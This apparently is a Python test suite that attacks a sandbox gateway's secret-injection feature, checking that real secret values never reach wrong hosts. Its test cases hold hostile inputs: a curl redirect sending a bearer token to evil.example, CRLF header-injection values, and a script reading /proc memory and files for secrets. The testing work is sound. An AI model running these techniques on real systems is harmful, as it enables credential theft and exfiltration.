"""Making the gateway put a secret where it is not meant to be."""

import base64
import json
import uuid

from egress.conftest import Store, prepared, python
from egress.table import attack


def header(record, name):
    return [value for each, value in record["headers"] if each.lower() == name]


def seen_by_servers(w, mark):
    """What arrived with this mark; none of it may hold a value of a secret."""
    arrived = w.arrived(mark)
    assert arrived, "nothing arrived, so nothing is shown by it"
    w.no_value_in(arrived)
    return arrived


@attack("host-of-another-secret", "a token sent to an allowed host that its secret does not name", "a secret is put in for its own hosts only; elsewhere the token goes out as it is")
def _(w):
    mark = w.mark()
    code = "say([get('other.test.example', '/status/200?' + mark, {'X-Key': KEY, 'Authorization': 'Bearer ' + WIDE_KEY, 'Cookie': 'k=' + KEY}), KEY])"
    _, token = python(w.fenced, code, mark=mark)
    arrived = seen_by_servers(w, mark)
    assert header(arrived[0], "x-key") == [token]
    return "the server got the token"


@attack("below-the-secrets-host", "hosts below and beside the one the secret names", "a name is that name alone")
def _(w):
    mark = w.mark()
    box = w.box("star-sealed", egress={"mode": "allowlist", "allow": [{"host": "*"}]}, secretStore=w.store.name)
    code = """
for host in ('x.api.test.example', 'xapi.test.example', 'api.test.example.evil.example', 'api.test.example.pages.example', 'evil.example'):
    attempt(get, host, '/status/200?' + mark, {'Authorization': 'Bearer ' + KEY})
say(attempt(get, 'api.test.example', '/status/200', {'Authorization': 'Bearer ' + KEY}))
"""
    assert python(box, code, mark=mark)["status"] == 200
    arrived = seen_by_servers(w, mark)
    return f"{len(arrived)} other hosts got the token"


@attack("without-tls", "a token sent to the secret's own host over plain HTTP, on 80, on 443 and through the proxy", "without TLS nobody has proved to be that host, and everybody on the way could read it")
def _(w):
    mark = w.mark()
    code = """
raw = request('/status/200?' + mark, 'api.test.example', headers={'Authorization': 'Bearer ' + KEY, 'Connection': 'close'})
proxied = request('http://api.test.example/status/200?' + mark, 'api.test.example', headers={'Authorization': 'Bearer ' + KEY, 'Connection': 'close'})
def tunnelled():
    stream, _ = connect('api.test.example:80')
    stream.sendall(raw)
    return read_response(stream)
say([attempt(plain, 'api.test.example', raw), attempt(plain, 'api.test.example', raw, 443), attempt(plain, PROXY[0], proxied, PROXY[1]), attempt(tunnelled)])
"""
    for box in (w.fenced, w.sealed):
        python(box, code, mark=mark)
    arrived = seen_by_servers(w, mark)
    return f"{len(arrived)} requests arrived, with the token"


@attack("token-of-a-sibling", "the token of another sandbox of the same store", "a token belongs to one sandbox")
def _(w):
    mark = w.mark()
    token = w.sealed.out("echo $API_KEY").strip()
    assert token.startswith("osb_sealed_") and token != w.fenced.out("echo $API_KEY").strip()
    code = "say(get('api.test.example', '/status/200?' + mark, {'Authorization': 'Bearer ' + token}))"
    python(w.fenced, code, mark=mark, token=token)
    arrived = seen_by_servers(w, mark)
    assert header(arrived[0], "authorization") == [f"Bearer {token}"]
    return "it went out as it is"


@attack("token-of-another-organisation", "the token of a sandbox of another organisation, whose store and host have the same names", "a token belongs to one sandbox")
def _(w):
    mark = w.mark()
    token = w.foreign.out("echo $API_KEY").strip()
    assert token.startswith("osb_sealed_")
    code = "say(get('api.test.example', '/status/200?' + mark, {'Authorization': 'Bearer ' + token}))"
    python(w.fenced, code, mark=mark, token=token)
    arrived = seen_by_servers(w, mark)
    assert header(arrived[0], "authorization") == [f"Bearer {token}"]
    return "it went out as it is"


@attack("token-given-as-a-variable", "creating a sandbox with another's token as a plain variable, with and without a store", "what is a token is decided by the sandbox it was made for")
def _(w):
    mark = w.mark()
    token = w.fenced.out("echo $API_KEY").strip()
    with prepared(w.api.create(envs={"STOLEN": token})) as one, prepared(w.api.create(envs={"STOLEN": token}, secretStore=w.store.name)) as two:
        for box in (one, two):
            python(box, "say(attempt(get, 'api.test.example', '/status/200?' + mark, {'Authorization': 'Bearer ' + token}))", mark=mark, token=token)
    seen_by_servers(w, mark)
    return "it went out as it is"


@attack("made-up-tokens", "tokens that were guessed, cut, changed in one letter or in capitals", "only the whole token, as it was given, means something")
def _(w):
    mark = w.mark()
    code = """
odd = ['osb_sealed_' + '0' * 32, KEY[:-1], KEY[:-1] + ('0' if KEY[-1] != '0' else '1'), KEY.upper(), KEY[1:], 'osb_sealed_', KEY.replace('osb', 'osb\\xad')]
for i, each in enumerate(odd):
    get('api.test.example', f'/status/200?{mark}', {'X-Key': each})
say(len(odd))
"""
    python(w.fenced, code, mark=mark)
    return f"{len(seen_by_servers(w, mark))} went out as they are"


@attack("token-split-over-two-headers", "half a token in one header and half in the next, in two of the same name, and in two lines of one", "a token is one piece of one value; halves are put together nowhere")
def _(w):
    mark = w.mark()
    code = """
half = len(KEY) // 2
get('api.test.example', '/status/200?' + mark, [('X-A', KEY[:half]), ('X-B', KEY[half:])])
get('api.test.example', '/status/200?' + mark, [('X-A', KEY[:half]), ('X-A', KEY[half:])])
get('api.test.example', '/status/200?' + mark, [('Authorization', 'Basic ' + base64.b64encode(KEY[:half].encode()).decode()), ('X-B', KEY[half:])])
attempt(https, 'api.test.example', request('/status/200?' + mark, 'api.test.example', headers=[('X-A', KEY[:half] + '\\r\\n ' + KEY[half:])]))
say(1)
"""
    python(w.fenced, code, mark=mark)
    return f"{len(seen_by_servers(w, mark))} arrived with halves"


@attack("encoded-tokens", "tokens in base64, percent signs, hexadecimal, backslashes and entities in a header", "only plain tokens, and the password of basic authentication, are read")
def _(w):
    mark = w.mark()
    code = """
forms = [base64.b64encode(KEY.encode()).decode(), 'Bearer ' + base64.b64encode(KEY.encode()).decode(), ''.join(f'%{ord(c):02x}' for c in KEY),
         KEY.encode().hex(), ''.join(f'\\\\u{ord(c):04x}' for c in KEY), ''.join(f'&#{ord(c)};' for c in KEY), KEY[::-1], 'Basic !' + base64.b64encode(KEY.encode()).decode()]
for form in forms:
    get('api.test.example', '/status/200?' + mark, {'X-Key': form, 'Authorization': form})
say(1)
"""
    python(w.fenced, code, mark=mark)
    arrived = seen_by_servers(w, mark)
    encoded = base64.b64encode(w.value.encode()).decode()
    assert encoded not in json.dumps(arrived)
    return f"{len(arrived)} went out as they are"


@attack("places-not-meant", "a token for headers in the path, the query, the body, a form, a header's name, the method and a trailer", "a secret is put into the parts of a request that it names, headers unless it says otherwise")
def _(w):
    mark = w.mark()
    code = """
found = [get('h1.test.example', f'/headers/{KEY}?{mark}&key={KEY}', {'X-Ok': '1', KEY.replace('_', '-'): '1'}, 'POST', f'{mark} {KEY}'.encode())]
found.append(attempt(https, 'h1.test.example', request('/headers?' + mark, 'h1.test.example', KEY)))
body = f'{mark} {KEY}'.encode()
raw = request('/headers?' + mark, 'h1.test.example', 'POST', headers=[('Transfer-Encoding', 'chunked'), ('Trailer', 'X-Key'), ('TE', 'trailers'), ('Connection', 'TE')])
raw += f'{len(body):x}\\r\\n'.encode() + body + f'\\r\\n0\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode()
found.append(attempt(https, 'h1.test.example', raw))
say(found)
"""
    python(w.fenced, code, mark=mark)
    return f"{len(seen_by_servers(w, mark))} arrived with the token"


@attack("token-as-a-host", "a token in the Host header, the server name and `:authority`", "it is no host that is allowed, and nothing is ever put into a host")
def _(w):
    mark = w.mark()
    code = """
name = KEY.replace('_', '-')
say([attempt(https, 'api.test.example', request('/' + mark, KEY)), attempt(get2, 'api.test.example', pseudo(KEY, '/' + mark)), hello(web, client_hello(server_names(KEY.encode()))),
     ask(KEY + '.evil.example')])
"""
    answers = python(w.fenced, code, mark=mark, web=w.net.web)
    w.nothing_arrived(mark)
    w.no_value_in(answers, w.net.names.asked[-50:])
    return f"{answers[0].get('status')} {answers[0].get('body')}"


@attack("redirected-with-the-token", "a client that follows a redirect to the attacker's host and sends its credentials along", "under a list it is refused; elsewhere it is a token that goes there")
def _(w):
    mark = w.mark()
    command = f"curl -sSL --location-trusted -m 8 -H \"Authorization: Bearer $API_KEY\" -o /dev/null -w '%{{http_code}}' 'https://api.test.example/redirect?to=https://evil.example/status/200%3F{mark}' 2>&1"
    for box in (w.fenced, w.sealed):
        box.run(command)
    arrived = [each for each in w.arrived(mark) if each.get("host") == "evil.example" or each.get("authority") == "evil.example"]
    assert len(arrived) <= 1, "under the list nothing should arrive"
    w.no_value_in(arrived)
    return "the attacker's host got the token, once, from the sandbox without a list"


@attack("secrets-host-at-the-attackers-address", "the server name of the secret's host said to an address of the attacker's, with secrets and no list", "where a secret is put in, the connection goes to where the host's resolver says")
def _(w):
    mark = w.mark()
    code = "say([attempt(get, 'api.test.example', '/status/200?' + mark, {'Authorization': 'Bearer ' + KEY}, at=evil), attempt(https, 'api.test.example', request('/status/200?' + mark, 'api.test.example', headers={'Authorization': KEY, 'Connection': 'close'}), at=evil, alpn=())])"
    python(w.sealed, code, mark=mark, evil=w.net.evil)
    arrived = w.arrived(mark)
    assert all(each["local"] == w.net.web for each in arrived), arrived
    return f"it went to {sorted({each['local'] for each in arrived})}" if arrived else "nothing arrived"


@attack("unread-connections-with-a-token", "a token to the secret's host where the gateway does not read: without a server name, and with another protocol agreed on", "what is not read is not changed")
def _(w):
    mark = w.mark()
    code = """
raw = request('/status/200?' + mark, 'api.test.example', headers={'Authorization': 'Bearer ' + KEY, 'Connection': 'close'})
found = [attempt(https, web, raw, sni='')]
def other(*alpn):
    with tls('api.test.example', alpn=alpn) as stream:
        stream.sendall(raw)
        return read_response(stream)
found += [attempt(other, *each) for each in (('foo',), ('acme-tls/1',))]
say(found)
"""
    python(w.sealed, code, mark=mark, web=w.net.web)
    w.no_value_in(w.arrived(mark))
    return f"{len(w.arrived(mark))} arrived, with the token"


@attack("line-ends-in-a-value", "a secret whose value has line ends, to add headers to requests", "such a value is put into no header")
def _(w):
    mark = w.mark()
    store = Store(w.api)
    answer = w.api.put(f"{store.path}/secrets/EVIL", json={"value": f"x\r\nX-Injected: {mark}\r\n\r\nGET /{mark} HTTP/1.1", "allowedHosts": ["h1.test.example"]})
    if answer.status_code == 400:
        return f"400 {answer.json()['error']}"
    with prepared(w.api.create(egress=w.policy, secretStore=store.name)) as box:
        answers = python(box, "say([attempt(get, 'h1.test.example', '/status/200', {name: value}) for name, value in (('X', os.environ['EVIL']), ('Authorization', os.environ['EVIL']))])")
    assert all(answer.get("status") == 400 for answer in answers), answers
    w.nothing_arrived(mark)
    return f"400 {answers[0]['body']}"


@attack("store-of-another-organisation", "creating with the name of another organisation's store", "names of stores are the organisation's own")
def _(w):
    name = f"theirs-{uuid.uuid4().hex[:8]}"
    store = Store(w.other_api, name)
    store.set("K", "theirs-" + uuid.uuid4().hex)
    answer = w.api.post("/api/sandboxes", json={"secretStore": name, "memoryMB": 1024})
    assert answer.status_code == 400 and name in answer.json()["error"], answer.text
    return f"400 {answer.json()['error']}"


@attack("values-inside-the-sandbox", "looking for the values in all of the sandbox: variables, files, memory of every process, the agent's own, after they were used", "they are put in outside, and were never there")
def _(w):
    mark = w.mark()
    code = "say([get('api.test.example', '/status/200?' + mark, {'Authorization': 'Bearer ' + KEY}), get('api.test.example', '/status/200?' + mark, {'Authorization': basic('me', KEY)})])"
    python(w.fenced, code, mark=mark)
    assert w.value in json.dumps(w.arrived(mark)), "the server should have received the value"
    search = """
import glob, os, sys
wanted = [bytes(a ^ 0x55 for a in bytes.fromhex(each)) for each in sys.argv[1].split(',')]
found = []
for path in ['/proc/%s/%s' % (pid, name) for pid in os.listdir('/proc') if pid.isdigit() for name in ('environ', 'cmdline')]:
    try:
        data = open(path, 'rb').read()
    except OSError:
        continue
    found += [path for each in wanted if each in data]
read = 0
for pid in [each for each in os.listdir('/proc') if each.isdigit() and int(each) != os.getpid()]:
    try:
        regions = open(f'/proc/{pid}/maps').read().splitlines()
        memory = open(f'/proc/{pid}/mem', 'rb', 0)
    except OSError:
        continue
    for line in regions:
        span, rights = line.split()[:2]
        start, end = (int(each, 16) for each in span.split('-'))
        if 'r' not in rights or end - start > 1 << 28:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        read += len(data)
        found += [f'{pid} {span}' for each in wanted if each in data]
for top in ('/home', '/tmp', '/var', '/run', '/etc', '/root', '/dev/shm', '/workspace'):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not os.path.islink(path):
                try:
                    data = open(path, 'rb').read(1 << 24)
                except OSError:
                    continue
                found += [path for each in wanted if each in data]
print(read, found)
"""
    w.fenced.write("/tmp/search.py", search.encode())
    # As something else, so that the search does not find itself.
    hidden = lambda text: bytes(each ^ 0x55 for each in text.encode()).hex()
    wanted = ",".join(hidden(each) for each in w.values)
    said = w.fenced.out(f"sudo -n python3 /tmp/search.py {wanted}", timeout=90)
    read, _, found = said.strip().partition(" ")
    assert found == "[]", f"the value is inside: {found}"
    token = hidden(w.fenced.out("echo $API_KEY").strip())
    control = w.fenced.out(f"sudo -n python3 /tmp/search.py {token}", timeout=90)
    assert "environ" in control, f"the search should find the token: {control}"
    return f"{int(read) >> 20} MiB of memory and all files: not there; the token is"
